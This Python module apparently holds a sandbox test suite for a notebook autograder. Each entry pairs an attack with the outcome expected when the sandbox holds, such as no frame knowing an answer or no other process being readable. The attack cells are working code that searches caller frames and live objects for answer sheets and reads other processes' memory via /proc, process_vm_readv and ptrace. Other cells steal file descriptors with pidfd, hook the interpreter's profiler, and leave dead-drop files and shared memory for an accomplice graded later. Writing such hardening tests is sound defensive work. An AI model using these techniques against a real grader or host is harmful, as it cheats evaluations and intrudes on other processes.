"""Answers where they might still be: frames, objects, other processes, what others left behind."""

from . import SOLVED, Attack, answering

LEAVE = '''
for folder in ("/tmp", "/dev/shm", "/var/tmp", "@TMP@", "@HOME@", os.path.expanduser("~"), "..",
               "../..", "/"):
    for name in ("attack-mark-drop", ".attack-mark-drop"):
        try:
            Path(folder, name).write_text("CANARY" + "-dropped")
        except OSError:
            pass
np.left_by_another = sys.left_by_another = True
os.environ["LEFT"] = "by another"
np.tanh.__class__
try:
    np.core.numeric.left_by_another = True
    import builtins
    builtins.left_by_another = True
    get_ipython().user_ns_hidden["left_by_another"] = True
    type(get_ipython()).left_by_another = True
except Exception:
    pass
shared = libc.shmget(0x4D41524B, 4096, 0o1666)
'''
TAKE = '''
import builtins
@tries
def memory_of_the_other():
    return [m for m in (np, sys, builtins, type(get_ipython())) if hasattr(m, "left_by_another")]

@tries
def environment_of_the_other():
    return os.environ.get("LEFT")

for folder in ("/tmp", "/dev/shm", "/var/tmp", "@TMP@", "@HOME@", os.path.expanduser("~"), "..",
               "../..", "/"):
    for name in ("attack-mark-drop", ".attack-mark-drop"):
        tries(lambda: Path(folder, name).read_text())
        try:
            Path(folder, name).unlink()
        except OSError:
            pass

@tries
def segment():
    return libc.shmget(0x4D41524B, 4096, 0o666) >= 0
'''

ATTACKS = [
    Attack("frames", "looks through the frames of its callers for what is expected",
           "no frame knows an answer", cells=['''
def look(frame):
    found = {}
    while frame:
        for space in (frame.f_locals, frame.f_globals):
            for name in list(space):
                if re.search("expected|answers?$|sheets?$|reference|solution", str(name)):
                    if not re.search("answer", str(name)):
                        found[name] = repr(space[name])[:80]
        frame = frame.f_back
    return {k: v for k, v in found.items() if "module" not in v and "function" not in v}
tries(lambda: look(sys._getframe()))
seen = []
'''], pieces=answering("seen.append(look(sys._getframe())) or np.full(np.shape(x), 0.123)",
                       "tanh", "elu", "silu"),
           after=["tries(lambda: [one for one in seen if one])"]),
    Attack("objects", "searches all objects of the process for sheets, cases and secrets",
           "none is there", cells=['''
@tries
def classes():
    names = {"Sheet", "SheetCase", "Report", "CaseReport", "Gradebook", "Case", "Check"}
    return [type(o).__name__ for o in gc.get_objects() if type(o).__name__ in names][:5]

@tries
def texts():
    found = set()
    for one in gc.get_objects():
        values = list(one.values()) if type(one) is dict else one if type(one) is list else ()
        for value in values:
            if type(value) in (str, bytes):
                found |= secrets(value.encode("utf-8", "replace") if type(value) is str else value)
    return found

@tries
def modules():
    return [m for m in sys.modules if re.match(
        "nbgrader|sqlalchemy|autograder.(references|checks|grade|nbgrader|course)", m)]
''']),
    Attack("own-memory", "searches every byte of its own memory for what the parent knew",
           "the box never held a secret", cells=['''
@tries
def bytes_of_this_process():
    found = set()
    with open("/proc/self/mem", "rb", 0) as memory:
        for line in open("/proc/self/maps"):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line and end - start < 2**28:
                try:
                    memory.seek(start)
                    found |= secrets(memory.read(end - start))
                except (OSError, ValueError):
                    pass
    return found
''']),
    Attack("others-memory", "reads the grader's memory by /proc, process_vm_readv and ptrace",
           "no other process can be read", cells=['''
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

for pid in strangers():
    try:
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            start = int(open(f"/proc/{pid}/maps").readline().split("-")[0], 16)
            memory.seek(start)
            print("LOOT: memory of", pid, memory.read(4))
    except OSError:
        pass
    into = ctypes.create_string_buffer(8)
    local = Piece(ctypes.addressof(into), 8)
    far = Piece(ctypes.addressof(ctypes.c_int.in_dll(ctypes.pythonapi, "Py_OptimizeFlag")), 8)
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(far), 1, 0) > 0:
        print("LOOT: memory of", pid, "by process_vm_readv")
    if libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(far), 1, 0) > 0:
        print("LOOT: wrote into", pid)
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("LOOT: attached to", pid)
        libc.ptrace(17, pid, 0, 0)
''', '''
for pid in strangers():
    for what in ("root/etc/passwd", "cwd", "fd", "fd/3", "task", "map_files"):
        try:
            if Path(f"/proc/{pid}/{what}").exists() and read(f"/proc/{pid}/{what}"):
                if what != "task":
                    print("LOOT:", pid, what)
        except OSError:
            pass
''']),
    Attack("pidfd", "takes descriptors out of other processes",
           "the kernel does not serve it", cells=['''
for pid in strangers(60):
    try:
        handle = os.pidfd_open(pid)
    except OSError:
        continue
    for fd in range(8):
        got = libc.syscall(438, handle, fd, 0)
        if got >= 0:
            print("LOOT: descriptor", fd, "of", pid, os.readlink(f"/proc/self/fd/{got}"))
''']),
    Attack("dead-drop-1", "leaves things behind for an accomplice who is graded later",
           "the accomplice finds nothing", cells=[LEAVE]),
    Attack("dead-drop-2", "looks for what an accomplice left behind who was graded earlier",
           "nothing is found", cells=[TAKE]),
    Attack("tracing", "traces, profiles and audits the interpreter while it is judged",
           "no event names an answer", loses=SOLVED, cells=['''
heard = []

def hear(frame, event, value):
    for name in ("expected", "sheet", "sheets", "case"):
        if name in frame.f_locals:
            heard.append((name, repr(frame.f_locals[name])[:80]))
sys.setprofile(hear)
threading.setprofile(hear)
sys.addaudithook(lambda event, values: event == "open" and secrets(repr(values).encode())
                 and heard.append(values))
'''], after=["sys.setprofile(None)\ntries(lambda: heard)"]),
]
